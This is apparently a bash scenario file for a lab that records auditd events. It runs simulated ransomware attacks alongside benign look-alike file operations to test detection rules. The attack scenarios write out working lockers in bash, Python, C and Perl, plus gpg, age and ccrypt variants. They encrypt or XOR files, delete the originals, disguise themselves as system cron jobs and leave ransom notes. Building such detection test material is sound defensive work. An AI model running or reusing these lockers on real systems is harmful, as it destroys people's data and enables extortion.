# each scenario: sc_NAME runs while auditd records. Writes expected facts to $CASE/facts.
wait_cron() { # wait until the cron-started marker file appears and the job is done
  local marker=$1; for i in $(seq 150); do [ -f "$marker" ] && break; sleep 1; done
}
cron_at_next_minute() { date -d '+1 minute' +'%M %H'; }

sc_h1_ssh_sudo_openssl() {
  install -d -m 755 /tmp/.x
  cat > /tmp/.x/u.sh <<'S'
#!/bin/bash
find /srv/nas/share -type f | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:Qx7tLm -in "$f" -out "$f.crypted" && rm -f "$f"
done
find /srv/nas/share -type d | while read -r d; do
  printf 'Your files are encrypted. Mail restore@proton.example\n' > "$d/HOW_TO_RESTORE.txt"
done
S
  chmod 755 /tmp/.x/u.sh
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'cd ~; ls -la >/dev/null; sudo bash /tmp/.x/u.sh'
  rm -rf /tmp/.x
}

sc_h2_qlocker_root_ssh() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx root 'cd /srv/nas/share && for d in */; do d=${d%/}; 7z a -bd -p"S3cr3t!" -mhe=on "$d.7z" "$d" >/dev/null && rm -rf "$d"; done; printf "All your files were encrypted with 7zip.\n" > "/srv/nas/share/!!!READ_ME.txt"'
}

sc_h3_cron_xargs_gpg() {
  install -d -o priya -g priya /home/priya/.local/bin
  cat > /home/priya/.local/bin/sync.sh <<'S'
#!/bin/bash
find "$HOME/work" -type f -print0 | xargs -0 -P 4 -n 1 sh -c 'gpg --batch --yes --pinentry-mode loopback --passphrase Hq2w -c "$0" && rm -f "$0"'
for d in "$HOME"/work/*/; do echo "send 0.1 BTC" > "$d/DECRYPT-FILES.txt"; done
touch /tmp/.h3-done
S
  chown priya: /home/priya/.local/bin/sync.sh; chmod 755 /home/priya/.local/bin/sync.sh
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h3-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /home/priya/.local/bin/sync.sh >/dev/null 2>&1" | crontab -u priya -
  wait_cron /tmp/.h3-done; sleep 2
  crontab -u priya -r
}

sc_h4_ssh_sudo_python_inplace() {
  install -d -m 755 /opt/.cache
  cat > /opt/.cache/l.py <<'S'
import os, sys
key = bytes(range(7, 39))
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        p = os.path.join(root, n)
        with open(p, 'r+b') as f:
            data = f.read()
            f.seek(0)
            f.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.rename(p, p + '.locked')
    with open(os.path.join(root, 'README_LOCKED.html'), 'w') as f:
        f.write('<h1>locked</h1>')
S
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo setsid nohup python3 /opt/.cache/l.py /var/www/shop/uploads >/dev/null 2>&1 < /dev/null & sleep 8'
  rm -rf /opt/.cache
}

sc_b1_cron_root_backup() {
  mkdir -p /var/backups/ho; rm -f /tmp/.b1-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root tar czf - /srv/nas/share 2>/dev/null | gpg --batch --yes --pinentry-mode loopback --passphrase bk -c -o /var/backups/ho/nas.tgz.gpg; touch /tmp/.b1-done" > /etc/cron.d/ho-backup
  wait_cron /tmp/.b1-done; sleep 2; rm -f /etc/cron.d/ho-backup
}
sc_b2_ssh_gzip_recursive() { sshx priya 'gzip -r ~/work; ls -R ~/work | wc -l'; }
sc_b3_ssh_mogrify() {
  sshx mkowalski 'cd ~/Documents && for d in */; do (cd "$d" && for f in *.jpg *.png; do [ -f "$f" ] && cp "$f" "${f%.*}.bak.${f##*.}"; done); done; find ~/Documents -name "*.txt" -exec sed -i "s/a/A/g" {} +'
}
sc_b4_cron_rsync_mirror() {
  rm -f /tmp/.b4-done; mkdir -p /srv/nas/mirror; chown svc-nas: /srv/nas/mirror
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * rsync -a --delete /srv/nas/share/ /srv/nas/mirror/ ; touch /tmp/.b4-done" | crontab -u svc-nas -
  wait_cron /tmp/.b4-done; sleep 1
  sshx svc-nas 'cd /srv/nas/share && for f in $(ls -d */* | head -20); do echo x >> "$f"; done; rm -f $(ls -d */* | tail -15); rsync -a --delete /srv/nas/share/ /srv/nas/mirror/'
  crontab -u svc-nas -r
}
sc_b5_user_encrypts_few() {
  sshx mkowalski 'cd ~/Documents && i=0; for f in */*.pdf */*.docx; do i=$((i+1)); [ $i -gt 3 ] && break; gpg --batch --yes --pinentry-mode loopback --passphrase mine -c "$f" && shred -u "$f"; done; gpg --batch --yes --pinentry-mode loopback --passphrase mine -d -o /tmp/ho-dec.out $(ls */*.gpg | head -1)'
}
sc_b6_sudo_perm_fix() { sshx deploy 'sudo chown -R www-data: /var/www/shop && sudo find /var/www/shop -type f -exec chmod 640 {} + && sudo find /var/www/shop -type d -exec chmod 750 {} +'; }
sc_b7_zip_encrypted_backup() { sshx priya 'cd ~ && zip -q -r -P backupPW /tmp/priya-backup.zip work && 7z a -bd -pX -mhe=on /tmp/priya-backup.7z work >/dev/null'; }
sc_b8_git_project() {
  sshx tomas 'mkdir -p ~/proj && cd ~/proj && git init -q && for i in $(seq 1 120); do mkdir -p src/m$((i%10)); echo "int f$i(){return $i;}" > src/m$((i%10))/f$i.c; done && git add -A && git -c user.email=t@x -c user.name=t commit -qm init && git checkout -qb feature && for i in $(seq 1 60); do echo "// c" >> src/m$((i%10))/f$i.c; done && git -c user.email=t@x -c user.name=t commit -qam two && git checkout -q master && git gc -q'
}

# ---- third batch (2026-12-07, later): other tools and habits; also the watch-style rule set (rules/watch.rules)
sc_h5_cron_root_c_locker() {
  install -d -m 700 /var/tmp/.cache
  cat > /var/tmp/.cache/k.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static void lock(const char *p) {
  char out[4200]; unsigned char buf[65536]; ssize_t n; int i;
  snprintf(out, sizeof out, "%s.8bx1", p);
  int in = open(p, O_RDONLY); if (in < 0) return;
  int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600); if (o < 0) { close(in); return; }
  while ((n = read(in, buf, sizeof buf)) > 0) { for (i = 0; i < n; i++) buf[i] ^= 0x5a + i; write(o, buf, n); }
  close(in); close(o); unlink(p);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st;
  if (!dir) return;
  while ((e = readdir(dir))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
    if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p);
    else if (S_ISREG(st.st_mode) && !strstr(p, ".8bx1") && !strstr(p, "HOW_TO_BACK")) lock(p);
  }
  closedir(dir);
  snprintf(p, sizeof p, "%s/HOW_TO_BACK_FILES.txt", d);
  FILE *f = fopen(p, "w"); if (f) { fputs("Your network was hit. Contact us: backfiles@onion.example ID 8bx1\n", f); fclose(f); }
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /var/tmp/.cache/kdmtmpflush /var/tmp/.cache/k.c && rm -f /var/tmp/.cache/k.c
  echo "files $(find /srv/nas/share /var/www/shop/uploads -type f | wc -l) dirs $(find /srv/nas/share /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h5-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /var/tmp/.cache/kdmtmpflush /srv/nas/share /var/www/shop/uploads; touch /tmp/.h5-done" > /etc/cron.d/0hourly-sync
  wait_cron /tmp/.h5-done; sleep 2; rm -f /etc/cron.d/0hourly-sync; rm -rf /var/tmp/.cache
}
sc_h6_ssh_ccrypt_recursive() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'ccrypt -e -r -f -K "Wq8-zz" ~/Documents && find ~/Documents -type d -exec sh -c "printf \"files locked, write to ccr@tuta.example\n\" > \"\$0/READ_TO_DECRYPT.txt\"" {} \;'
}
sc_h7_ssh_perl_truncate_rename() {
  install -d -o priya -g priya /home/priya/.cache
  cat > /home/priya/.cache/.x.pl <<'P'
use strict; use File::Find;
my $ext = '.id-7781.[help@mail.example].pwnd';
find({ no_chdir => 1, wanted => sub {
  my $f = $File::Find::name;
  if (-d $f) { open(my $n, '>', "$f/!!_FILES_ENCRYPTED_!!.txt"); print $n "pay 0.05 BTC\n"; close $n; return; }
  return if $f =~ /pwnd$|ENCRYPTED/;
  open(my $in, '<:raw', $f) or return; local $/; my $d = <$in>; close $in;
  $d ^= ("\x33" x length $d);
  open(my $out, '>:raw', $f) or return; print $out $d; close $out;
  rename $f, $f . $ext;
}}, $ARGV[0]);
P
  chown priya: /home/priya/.cache/.x.pl
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'setsid perl ~/.cache/.x.pl ~/work >/dev/null 2>&1 < /dev/null & sleep 6'
  rm -f /home/priya/.cache/.x.pl
}
sc_h8_ssh_sudo_zip_move() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx deploy "sudo sh -c 'cd /srv/nas/share && for d in */; do zip -q -r -m -P \"x9-Lp\" \"\${d%/}.zip\" \"\$d\"; done; echo \"Your files are in password zips. Mail zz@cock.example\" > RECOVER-FILES.txt'"
}
pre_b9_cron_logrotate_gzip() {
  for a in billing crm portal api mailer worker; do mkdir -p /srv/nas/logs/$a
    for i in $(seq 1 10); do head -c $((20000 + i * 997)) /dev/urandom | base64 > /srv/nas/logs/$a/$a-$i.log; done; done
  chown -R svc-nas: /srv/nas/logs
}
sc_b9_cron_logrotate_gzip() {
  rm -f /tmp/.b9-done
  cat > /srv/nas/rotate.sh <<'S'
#!/bin/sh
for f in /srv/nas/logs/*/*.log; do mv "$f" "$f.1" && gzip -9 "$f.1"; : > "$f"; done
touch /tmp/.b9-done
S
  chmod 755 /srv/nas/rotate.sh
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /srv/nas/rotate.sh" | crontab -u svc-nas -
  wait_cron /tmp/.b9-done; sleep 1; crontab -u svc-nas -r; rm -f /srv/nas/rotate.sh
}
pre_b10_ssh_gpg_sign_release() {
  rm -rf /home/tomas/dist /home/tomas/.gnupg
  for p in linux-amd64 linux-arm64 darwin-amd64 windows-amd64 docs; do mkdir -p /home/tomas/dist/v2.4.1/$p
    for i in $(seq 1 9); do head -c $((30000 + i * 1234)) /dev/urandom > /home/tomas/dist/v2.4.1/$p/tool-$i.tar.xz; done; done
  chown -R tomas: /home/tomas/dist
  su - tomas -c "gpg --batch --passphrase '' --quick-gen-key 'Tomas Release <tomas@build.example>' ed25519 sign never" >/dev/null 2>&1
}
sc_b10_ssh_gpg_sign_release() {
  sshx tomas 'cd ~/dist/v2.4.1 && find . -type f -name "*.tar.xz" -exec gpg --batch --yes --pinentry-mode loopback --passphrase "" --detach-sign --armor {} \; && for d in */; do (cd "$d" && sha256sum *.tar.xz > SHA256SUMS && gpg --batch --yes --pinentry-mode loopback --passphrase "" --clearsign SHA256SUMS && mv SHA256SUMS.asc SHA256SUMS.signed); done'
}
sc_b11_cron_rsync_move() {
  rm -f /tmp/.b11-done; mkdir -p /srv/nas/archive; chown svc-nas: /srv/nas/archive /srv/nas/share
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * rsync -a --remove-source-files /srv/nas/share/ /srv/nas/archive/ && find /srv/nas/share -mindepth 1 -type d -empty -delete; touch /tmp/.b11-done" | crontab -u svc-nas -
  wait_cron /tmp/.b11-done; sleep 1; crontab -u svc-nas -r
}
pre_b12_ssh_ccdecrypt_restore() { su - mkowalski -c 'ccrypt -e -r -f -K "mine-2026" ~/Documents'; }
sc_b12_ssh_ccdecrypt_restore() { sshx mkowalski 'ccrypt -d -r -f -K "mine-2026" ~/Documents && ls -R ~/Documents | wc -l'; }

# ---- fourth batch: su -l inside a root login, a job left running after logout, and restore/convert look-alikes
sc_h9_ssh_root_su_openssl_replace() {
  install -d -m 755 /tmp/.m
  cat > /tmp/.m/run.sh <<'S'
#!/bin/bash
# each file encrypted to a temp, moved over the original, then renamed: the original's inode is gone, not unlinked
find /srv/nas/share -type f ! -name '*.CRPTD' | while IFS= read -r f; do
  openssl enc -aes-128-ctr -pbkdf2 -k 'nas-Pw-77' -in "$f" -out "$f.tmp" && mv -f "$f.tmp" "$f" && mv "$f" "$f.CRPTD"
done
for d in /srv/nas/share/*/; do cp /tmp/.m/n.txt "$d/RESTORE_FILES_INFO.txt"; done
S
  printf 'Files encrypted. Contact: nasrescue@tuta.example\n' > /tmp/.m/n.txt
  chmod 755 /tmp/.m/run.sh; chmod 644 /tmp/.m/n.txt
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx root 'su - svc-nas -c "bash /tmp/.m/run.sh"'
  rm -rf /tmp/.m
}
sc_h10_ssh_nohup_after_logout() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx priya 'nohup sh -c '"'"'sleep 2; find ~/work -type f | while read f; do gpg --batch --yes --pinentry-mode loopback --passphrase Zk4 --symmetric --output "$f.asc" "$f" && shred -zu "$f"; done; for d in ~/work/*/; do echo "your data is gone, mail zk4@cock.example" > "$d/ZK4-INFO.txt"; done; touch /tmp/.h10-done'"'"' > /dev/null 2>&1 < /dev/null & exit 0'
  for i in $(seq 120); do [ -f /tmp/.h10-done ] && break; sleep 1; done; rm -f /tmp/.h10-done
}
pre_b14_ssh_tar_restore_over() { su - mkowalski -c 'tar czf /tmp/mk-docs.tgz -C ~ Documents'; chmod 644 /tmp/mk-docs.tgz; }
sc_b14_ssh_tar_restore_over() {
  sshx mkowalski 'cd ~ && tar xzf /tmp/mk-docs.tgz && rsync -a --delete ~/Documents/ ~/Documents.old/ && ls -R ~/Documents | wc -l'
  rm -f /tmp/mk-docs.tgz; rm -rf /home/mkowalski/Documents.old
}
pre_b15_ssh_convert_images() {
  for d in 1 2 3 4 5; do mkdir -p /home/tomas/pics/album$d
    for i in $(seq 1 8); do convert -size 64x48 "xc:rgb($((d*40)),$((i*25)),90)" /home/tomas/pics/album$d/img$i.png; done; done
  chown -R tomas: /home/tomas/pics
}
sc_b15_ssh_convert_images() {
  sshx tomas 'cd ~/pics && for f in */*.png; do convert "$f" -quality 85 "${f%.png}.jpg" && rm "$f"; done; ls -R | wc -l'
  rm -rf /home/tomas/pics
}
pre_b16_ssh_7z_extract_archives() {
  cd /home/priya/work && for d in */; do 7z a -bd -p"arch-9" "${d%/}.7z" "$d" >/dev/null && rm -rf "$d"; done; chown -R priya: /home/priya/work; cd /
}
sc_b16_ssh_7z_extract_archives() {
  sshx priya 'cd ~/work && for a in *.7z; do 7z x -bd -y -p"arch-9" "$a" >/dev/null && rm -f "$a"; done; ls -R | wc -l'
}

# ---- fifth batch: copy-and-delete in python from a user's crontab, an in-place C wiper-locker without renames,
# tar | openssl per home as root, and archive/checkout/unzip look-alikes
sc_h11_cron_user_python_copy_delete() {
  install -d -o tomas -g tomas /home/tomas/.local/share/upd
  cat > /home/tomas/.local/share/upd/upd.py <<'P'
import os, sys
key = b'k3y-of-tomas-2026'
for top in sys.argv[1:]:
    for root, dirs, files in os.walk(top):
        for n in files:
            if n.endswith('.tomcrypt') or n == 'HELP_RECOVER.txt':
                continue
            p = os.path.join(root, n)
            with open(p, 'rb') as f:
                data = f.read()
            with open(p + '.tomcrypt', 'wb') as f:
                f.write(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))
            os.remove(p)
        with open(os.path.join(root, 'HELP_RECOVER.txt'), 'w') as f:
            f.write('files encrypted; write to tom@onion.example\n')
open('/tmp/.h11-done', 'w').close()
P
  chown tomas: /home/tomas/.local/share/upd/upd.py
  mkdir -p /home/tomas/proj; cp -r /srv/nas/share/clients_* /home/tomas/proj/ 2>/dev/null; cp -r /srv/nas/share/2025_* /home/tomas/proj/ 2>/dev/null; chown -R tomas: /home/tomas/proj
  echo "files $(find /home/tomas/proj -type f | wc -l) dirs $(find /home/tomas/proj -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h11-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /usr/bin/python3 /home/tomas/.local/share/upd/upd.py /home/tomas/proj" | crontab -u tomas -
  wait_cron /tmp/.h11-done; sleep 2; crontab -u tomas -r; rm -rf /home/tomas/.local/share/upd
}
sc_h12_ssh_sudo_inplace_wiper_locker() {
  cat > /tmp/w.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
/* ESXiArgs-like: encrypt the first 64 KiB of each file in place (O_WRONLY, no truncation, no rename) */
static void hit(const char *p) {
  unsigned char b[65536]; int fd = open(p, O_RDWR); if (fd < 0) return;
  ssize_t n = read(fd, b, sizeof b); if (n > 0) { for (ssize_t i = 0; i < n; i++) b[i] ^= 0xa5 ^ (i & 0xff); lseek(fd, 0, SEEK_SET); write(fd, b, n); }
  close(fd);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
  while ((e = readdir(dir))) {
    if (e->d_name[0] == '.' || !strcmp(e->d_name, "how_to_restore.html")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) hit(p);
  }
  closedir(dir);
  snprintf(p, sizeof p, "%s/how_to_restore.html", d);
  FILE *f = fopen(p, "w"); if (f) { fputs("<html>Send 2 BTC. Your files are encrypted.</html>\n", f); fclose(f); }
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /tmp/.vmtools-upd /tmp/w.c && rm -f /tmp/w.c && chmod 755 /tmp/.vmtools-upd
  echo "files $(find /var/www/shop/uploads /srv/nas/share -type f | wc -l) dirs $(find /var/www/shop/uploads /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo /tmp/.vmtools-upd /var/www/shop/uploads /srv/nas/share'
  rm -f /tmp/.vmtools-upd
}
sc_h13_cron_root_tar_openssl_homes() {
  rm -f /tmp/.h13-done
  cat > /etc/cron.d/zz-arch <<'S'
SHELL=/bin/bash
S
  read m h < <(cron_at_next_minute)
  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) dirs $(find /home/mkowalski/Documents /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  echo "$m $h * * * root for d in /home/mkowalski/Documents /home/priya/work; do tar cf - -C \"\$(dirname \$d)\" \"\$(basename \$d)\" | openssl enc -aes-256-cbc -pbkdf2 -pass pass:homes-X1 -out \"\$d.tar.enc\" && rm -rf \"\$d\" && echo 'Your home folders are encrypted. contact: homes@proton.example' > \"\$(dirname \$d)/HOMES_ENCRYPTED.txt\"; done; touch /tmp/.h13-done" >> /etc/cron.d/zz-arch
  wait_cron /tmp/.h13-done; sleep 2; rm -f /etc/cron.d/zz-arch
}
sc_b17_ssh_tar_then_remove_project() {
  sshx priya 'cd ~/work && for d in */; do tar czf "${d%/}.tar.gz" "$d" && rm -rf "$d"; done; ls'
}
pre_b18_ssh_git_checkout_branches() {
  rm -rf /home/tomas/repo; su - tomas -c 'mkdir -p ~/repo && cd ~/repo && git init -q && for i in $(seq 1 150); do mkdir -p src/p$((i%12)); head -c 2000 /dev/urandom | base64 > src/p$((i%12))/m$i.py; done && git add -A && git -c user.email=t@x -c user.name=t commit -qm base && git checkout -qb next && for i in $(seq 1 150); do head -c 1500 /dev/urandom | base64 > src/p$((i%12))/m$i.py; done && git -c user.email=t@x -c user.name=t commit -qam next && git checkout -q master'
}
sc_b18_ssh_git_checkout_branches() { sshx tomas 'cd ~/repo && git checkout -q next && git checkout -q master && git checkout -q next && git stash list | wc -l'; rm -rf /home/tomas/repo; }
pre_b19_ssh_unzip_over() { su - mkowalski -c 'cd ~ && zip -q -r /tmp/mk-docs.zip Documents'; chmod 644 /tmp/mk-docs.zip; }
sc_b19_ssh_unzip_over() { sshx mkowalski 'cd ~ && unzip -q -o /tmp/mk-docs.zip && ls -R Documents | wc -l'; rm -f /tmp/mk-docs.zip; }
sc_b20_ssh_user_7z_one_folder() {
  sshx priya 'cd ~/work && d=$(ls -d */ | head -1) && 7z a -bd -p"mine!" -mhe=on "${d%/}.7z" "$d" >/dev/null && rm -rf "$d" && ls'
}

# ---- sixth batch: gpg's multi-file mode, rename-first lockers, and backups that copy or encrypt but keep
pre_h14_ssh_gpg_encrypt_files_find_delete() {
  # the intruder's public key, imported into svc-nas's keyring: only its private half decrypts
  rm -rf /var/tmp/ho-gpg-attacker; mkdir -p /var/tmp/ho-gpg-attacker; chmod 700 /var/tmp/ho-gpg-attacker
  gpg --homedir /var/tmp/ho-gpg-attacker --batch --passphrase '' --quick-gen-key 'payme <payme@onion.example>' rsa2048 encr never >/dev/null 2>&1
  gpg --homedir /var/tmp/ho-gpg-attacker --armor --export payme@onion.example > /tmp/payme.asc; chmod 644 /tmp/payme.asc
  rm -rf /home/svc-nas/.gnupg
}
sc_h14_ssh_gpg_encrypt_files_find_delete() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx svc-nas 'gpg --batch --import /tmp/payme.asc 2>/dev/null; cd /srv/nas/share && find . -type f -print0 | xargs -0 gpg --batch --yes --trust-model always -r payme@onion.example --encrypt-files && find . -type f ! -name "*.gpg" -delete && for d in */; do echo "all files encrypted - pay" > "$d/#DECRYPT#.txt"; done'
  rm -f /tmp/payme.asc; rm -rf /var/tmp/ho-gpg-attacker
}
sc_h15_cron_rename_first_then_rewrite() {
  rm -f /tmp/.h15-done
  install -d -m 755 /usr/local/lib/.sysupd
  cat > /usr/local/lib/.sysupd/r.sh <<'S'
#!/bin/bash
# rename first, then rewrite each renamed file with its encryption through a temp and cat (O_TRUNC on the renamed file)
for f in $(find /var/www/shop/uploads -type f); do mv "$f" "$f.rnsmw"; done
for f in $(find /var/www/shop/uploads -type f -name '*.rnsmw'); do
  openssl enc -chacha20 -pbkdf2 -k 'RW-1' -in "$f" -out /dev/shm/.t && cat /dev/shm/.t > "$f"
done
rm -f /dev/shm/.t
for d in $(find /var/www/shop/uploads -type d); do echo 'site locked. contact rnsmw@onion.example' > "$d/RNSMW-README.txt"; done
touch /tmp/.h15-done
S
  chmod 755 /usr/local/lib/.sysupd/r.sh
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /usr/local/lib/.sysupd/r.sh" > /etc/cron.d/sysupd
  wait_cron /tmp/.h15-done; sleep 2; rm -f /etc/cron.d/sysupd; rm -rf /usr/local/lib/.sysupd
}
pre_b21_ssh_gpg_encrypt_files_backup_keep() {
  rm -rf /home/priya/.gnupg /home/priya/enc-backup
  su - priya -c "gpg --batch --passphrase '' --quick-gen-key 'Priya <priya@lab.internal>' rsa2048 encr never" >/dev/null 2>&1
}
sc_b21_ssh_gpg_encrypt_files_backup_keep() {
  sshx priya 'mkdir -p ~/enc-backup && cd ~/work && find . -type f -print0 | xargs -0 gpg --batch --yes -r priya@lab.internal --encrypt-files && find . -name "*.gpg" -exec mv -t ~/enc-backup {} + && ls ~/enc-backup | wc -l'
  rm -rf /home/priya/enc-backup
}
sc_b22_cron_root_copy_backup() {
  rm -f /tmp/.b22-done; mkdir -p /srv/backup
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root cp -a /srv/nas/share /srv/backup/share-\$(date +\%F) && find /srv/backup -mindepth 1 -maxdepth 1 -mtime +7 -exec rm -rf {} + ; touch /tmp/.b22-done" > /etc/cron.d/zz-copy
  wait_cron /tmp/.b22-done; sleep 1; rm -f /etc/cron.d/zz-copy; rm -rf /srv/backup
}

# ---- seventh batch: sudo -i fed a heredoc, a python locker writing through temp files it moves over the originals
sc_h16_ssh_sudo_i_ccencrypt_find() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo -i <<"X"
find /srv/nas/share -type f -exec ccencrypt -f -K "cc-Key-5" {} +
for d in /srv/nas/share/*/; do printf "encrypted. mail cc5@tuta.example\n" > "$d/HOW-TO-GET-FILES-BACK.txt"; done
X'
}
sc_h17_ssh_python_atomic_replace_rename() {
  install -d -m 755 /opt/.tools
  cat > /opt/.tools/sync_agent.py <<'P'
import os, sys, tempfile
key = bytes(range(11, 43))
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        if n.endswith('.pyenc') or n == 'RECOVERY.md':
            continue
        p = os.path.join(root, n)
        with open(p, 'rb') as f:
            data = f.read()
        fd, tmp = tempfile.mkstemp(dir=root, prefix='.sa-')
        with os.fdopen(fd, 'wb') as out:
            out.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.replace(tmp, p)          # the safe-write idiom: the encrypted temp takes the original's place
        os.rename(p, p + '.pyenc')
    with open(os.path.join(root, 'RECOVERY.md'), 'w') as f:
        f.write('# your files are encrypted\n')
P
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo python3 /opt/.tools/sync_agent.py /var/www/shop/uploads'
  rm -rf /opt/.tools
}
pre_b23_ssh_python_atomic_config_rewrite() {
  for a in svc1 svc2 svc3 svc4 svc5 svc6; do mkdir -p /srv/nas/share/config/$a
    for i in $(seq 1 10); do printf '{"name": "%s-%d", "replicas": %d}\n' $a $i $i > /srv/nas/share/config/$a/unit$i.json; done; done
  chown -R svc-nas: /srv/nas/share/config
}
sc_b23_ssh_python_atomic_config_rewrite() {
  sshx svc-nas 'python3 - /srv/nas/share/config <<"P"
import json, os, sys, tempfile
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        p = os.path.join(root, n)
        with open(p) as f:
            doc = json.load(f)
        doc["replicas"] = doc["replicas"] * 2
        fd, tmp = tempfile.mkstemp(dir=root, prefix=".cfg-")
        with os.fdopen(fd, "w") as out:
            json.dump(doc, out)
        os.replace(tmp, p)
P'
}

# ---- eighth batch: a locker that gives every encrypted copy a random name, and photos renamed by date
sc_h18_ssh_python_random_names() {
  install -d -m 755 /var/tmp/.pyc
  cat > /var/tmp/.pyc/w.py <<'P'
import os, sys, uuid
key = b'rand-names-key-1'
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        if n == 'READ_ME_NOW.txt' or len(n) == 32:
            continue
        p = os.path.join(root, n)
        with open(p, 'rb') as f:
            data = f.read()
        with open(os.path.join(root, uuid.uuid4().hex), 'wb') as out:
            out.write(bytes(b ^ key[i % 16] for i, b in enumerate(data)))
        os.remove(p)
    with open(os.path.join(root, 'READ_ME_NOW.txt'), 'w') as f:
        f.write('files encrypted and renamed; mail rn@onion.example\n')
P
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'python3 /var/tmp/.pyc/w.py ~/work'
  rm -rf /var/tmp/.pyc
}
pre_b24_ssh_photos_renamed_by_date() {
  mkdir -p /home/tomas/photos/import; for i in $(seq 1 45); do head -c 3000 /dev/urandom > /home/tomas/photos/import/IMG_$((1000+i)).JPG; done
  chown -R tomas: /home/tomas/photos
}
sc_b24_ssh_photos_renamed_by_date() {
  sshx tomas 'cd ~/photos/import && i=0; for f in IMG_*.JPG; do i=$((i+1)); d=2026/12/0$((i % 7 + 1)); mkdir -p ../$d; mv "$f" "../$d/2026-12-0$((i % 7 + 1))_10$(printf %02d $i)00.jpg"; done; ls -R .. | wc -l'
  rm -rf /home/tomas/photos
}

# ---- ninth batch: a tool unknown by name (age), copies written to another directory, a root daemon's threaded
# locker (pwrite in chunks, rename after), gpgtar per folder, root cron su -c find -exec openssl \;, low and slow
pre_h19_ssh_age_pubkey_rm() {
  rm -rf /var/tmp/ho-age; mkdir -p /var/tmp/ho-age; age-keygen -o /var/tmp/ho-age/k.txt 2>/dev/null
  age-keygen -y /var/tmp/ho-age/k.txt > /tmp/.ak.pub; chmod 644 /tmp/.ak.pub
  install -d -o priya -g priya /home/priya/.cache
  cat > /home/priya/.cache/.sync-docs <<'S'
#!/bin/bash
pk=$(cat /tmp/.ak.pub)
find "$HOME/work" -type f | while read -r f; do age -r "$pk" -o "$f.age" "$f" && rm -f "$f"; done
for d in "$HOME"/work/*/; do printf 'Files encrypted with age. Key: mail agekey@onion.example\n' > "$d/RESTORE-AGE.txt"; done
S
  chown priya: /home/priya/.cache/.sync-docs; chmod 755 /home/priya/.cache/.sync-docs
}
sc_h19_ssh_age_pubkey_rm() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx priya 'cd ~ && ~/.cache/.sync-docs'
  rm -f /home/priya/.cache/.sync-docs /tmp/.ak.pub; rm -rf /var/tmp/ho-age
}
